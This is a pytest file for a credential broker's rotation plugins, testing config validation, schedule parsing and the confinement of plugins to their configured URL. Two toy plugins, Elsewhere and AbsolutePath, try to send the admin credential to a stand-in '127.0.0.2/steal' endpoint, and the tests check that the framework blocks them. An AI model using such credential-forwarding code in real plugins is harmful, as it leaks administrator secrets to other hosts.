"""What the framework holds every rotator to, a plugin's too: it is found by entry point,
validated like a built-in, and can send nothing anywhere but its configured ``url``."""

from __future__ import annotations

import pytest

from broker import rotation
from broker.config import parse_config
from broker.deadline import within
from broker.deps import Deps
from broker.errors import ConfigError, RotationFailed
from broker.login import Login
from broker.rotation import connect
from broker.rotation.base import Renewed, Rotator, Slot
from broker.testing import assert_clean, secret


class _EntryPoint:
    def __init__(self, cls, name):
        self.cls, self.name, self.value, self.dist = cls, name, f"toy:{cls.__name__}", None

    def load(self):
        return self.cls


class Elsewhere(Rotator):
    """A plugin that tries to send its admin credential to another host."""

    type = "toy-elsewhere"
    ids_key = ""
    ids_required = False

    def renew(self, slot: Slot) -> Renewed:
        self.api.session.get(f"https://127.0.0.2:{self.api.base.rsplit(':', 1)[1]}/steal",
                             headers=self.api.headers, timeout=1)
        return Renewed(Login("x", "y"), None)


class AbsolutePath(Elsewhere):
    type = "toy-absolute"

    def renew(self, slot: Slot) -> Renewed:
        self.api.call("GET", "//127.0.0.2/steal")
        return Renewed(Login("x", "y"), None)


class NotARotator:
    type = "toy-impostor"


@pytest.fixture
def plugins(monkeypatch):
    found = {cls.type: _EntryPoint(cls, cls.type) for cls in (Elsewhere, AbsolutePath, NotARotator)}
    monkeypatch.setattr(rotation, "plugins", lambda: found)


def config(block: dict, **registry) -> dict:
    return {"registries": {"team": {
        "host": "registry.example.com", "repository": "team/trainer", "timeout": 1,
        "backend": {"type": "secretsmanager", "secret_id": "prod/team"},
        "rotation": {"schedule": "rate(30 days)", "admin": {"env": "ADMIN"},
                     "url": "https://127.0.0.1:9", **block}, **registry}}}


@pytest.mark.parametrize("plugin", ["toy-elsewhere", "toy-absolute"])
def test_a_plugin_cannot_send_anywhere_but_its_url(plugins, scripted, plugin):
    elsewhere = scripted("127.0.0.2")
    token = secret("toy-admin")
    parsed = parse_config(config({"type": plugin, "url": f"https://127.0.0.1:{elsewhere.port}"}),
                          "t", {"ADMIN": token})
    rotator = connect.rotator(parsed.registries["team"], Deps(environ={"ADMIN": token}),
                              within(None, 5))
    with pytest.raises(Exception) as info:
        rotator.renew(Slot(1, None))
    assert elsewhere.requests == [], "the admin credential reached another host"
    assert_clean(info.value)


def test_a_plugin_that_is_no_rotator_is_refused(plugins):
    with pytest.raises(ConfigError) as info:
        parse_config(config({"type": "toy-impostor"}), "t")
    assert "is not a broker.rotation.base.Rotator subclass" in str(info.value)


def test_an_unknown_rotator_lists_the_valid_ones(plugins):
    with pytest.raises(ConfigError) as info:
        parse_config(config({"type": "harbour-robot"}), "t")
    message = dict(info.value.problems)["registries.team.rotation.type"]
    assert "did you mean 'harbor-robot'" in message and "toy-elsewhere" in message


def test_built_in_rotators_never_read_entry_points(monkeypatch):
    monkeypatch.setattr(rotation, "plugins", lambda: pytest.fail("entry points were scanned"))
    parse_config(config({"type": "harbor-robot", "robots": [1, 2]}), "t")


def test_a_configuration_without_rotation_never_imports_it():
    import subprocess
    import sys

    code = ("import sys, json; from broker.config import parse_config; "
            "parse_config({'registries': {'a': {'host': 'a.example', 'backend': "
            "{'type': 'secretsmanager', 'secret_id': 's'}}}}, 't'); "
            "print([m for m in sys.modules if m.startswith('broker.rotation')])")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


@pytest.mark.parametrize("block, registry, path, said", [
    ({"type": "harbor-robot", "robots": [1, 2], "schedule": "rate(1 hours)"}, {},
     "rotation.schedule", "must be rate(N days)"),
    ({"type": "harbor-robot", "robots": [1, 2], "schedule": "rate(4 hours)"},
     {"stale_if_error": 86400}, "rotation.schedule", "login may be served for 1.05 days"),
    ({"type": "harbor-robot", "robots": [1, 2], "schedule": "cron(0 */2 * * ? *)"},
     {"stale_if_error": 36000},
     "rotation.schedule", "as often as every 4 hours"),
    ({"type": "harbor-robot", "robots": [1]}, {}, "rotation.robots", "exactly two different"),
    ({"type": "harbor-robot", "robots": [1, 2], "url": "http://harbor.example.com"}, {},
     "rotation.url", "https:// URL"),
    ({"type": "harbor-robot", "robots": [1, 2], "admin": "a-literal-password"}, {},
     "rotation.admin", "a literal secret never goes in the config"),
    ({"type": "gitlab-token", "tokens": [1, 2]}, {}, "rotation.project", "exactly one of"),
    ({"type": "harbor-robot", "robots": [1, 2]}, {"repository": None}, "repository",
     "required for a rotated registry"),
])
def test_each_problem_is_reported_at_its_key(block, registry, path, said):
    document = config(block, **registry)
    if registry.get("repository", "") is None:
        del document["registries"]["team"]["repository"]
        registry = {}
    document["registries"]["team"].update(registry)
    with pytest.raises(ConfigError) as info:
        parse_config(document, "t")
    found = dict(info.value.problems)
    assert said in found[f"registries.team.{path}"], found


def test_an_ssm_login_cannot_be_rotated_and_says_why():
    document = config({"type": "harbor-robot", "robots": [1, 2]})
    document["registries"]["team"]["backend"] = {"type": "ssm", "parameter": "/team/login"}
    with pytest.raises(ConfigError) as info:
        parse_config(document, "t")
    assert "an SSM parameter has no version stages" in dict(info.value.problems)[
        "registries.team.backend.type"]


def test_a_rotated_registry_serves_awscurrent_only():
    document = config({"type": "harbor-robot", "robots": [1, 2]})
    document["registries"]["team"]["backend"]["version_stage"] = "AWSPREVIOUS"
    with pytest.raises(ConfigError) as info:
        parse_config(document, "t")
    assert "serves AWSCURRENT only" in dict(info.value.problems)[
        "registries.team.backend.version_stage"]


@pytest.mark.parametrize("expression, seconds", [
    ("rate(30 days)", 30 * 86400), ("rate(1 day)", 86400), ("rate(4 hours)", 4 * 3600),
    ("cron(0 8 1 * ? *)", 28 * 86400), ("cron(0 8 ? * MON *)", 7 * 86400),
    ("cron(0 8 * * ? *)", 86400), ("cron(0/30 * * * ? *)", 4 * 3600),
    ("rate(3 hours)", None), ("rate(30 weeks)", None), ("cron(0 8 * *)", None),
    ("rate(1001 days)", None), ("at(2026-12-01T00:00:00)", None)])
def test_the_shortest_gap_a_schedule_allows(expression, seconds):
    from broker.rotation.schedule import period

    assert period(expression) == seconds


def test_an_api_error_is_a_rotation_failure_naming_the_call(scripted):
    from tests.support.scripted import json_body

    server = scripted()
    server.on("/api/v2.0/robots/2", json_body('{"errors": [{"message": "secret-value-echo"}]}',
                                              503))
    # plain http: the Api itself does not care about the scheme; settings require https
    from broker.rotation.base import Api
    from broker.transport.bounded import bounded_session

    parsed = parse_config(config({"type": "harbor-robot", "robots": [1, 2]}), "t")
    registry = parsed.registries["team"]
    api = Api(bounded_session(within(None, 5), [f"http://{server.netloc}"]),
              f"http://{server.netloc}", rotation.rotator_class("harbor-robot"), registry, {})
    with pytest.raises(RotationFailed) as info:
        api.call("GET", "/api/v2.0/robots/2")
    assert str(info.value).startswith("registry 'team' (rotation harbor-robot http://")
    assert "GET /api/v2.0/robots/2: the API answered HTTP 503" in str(info.value)
    assert "secret-value-echo" not in str(info.value)
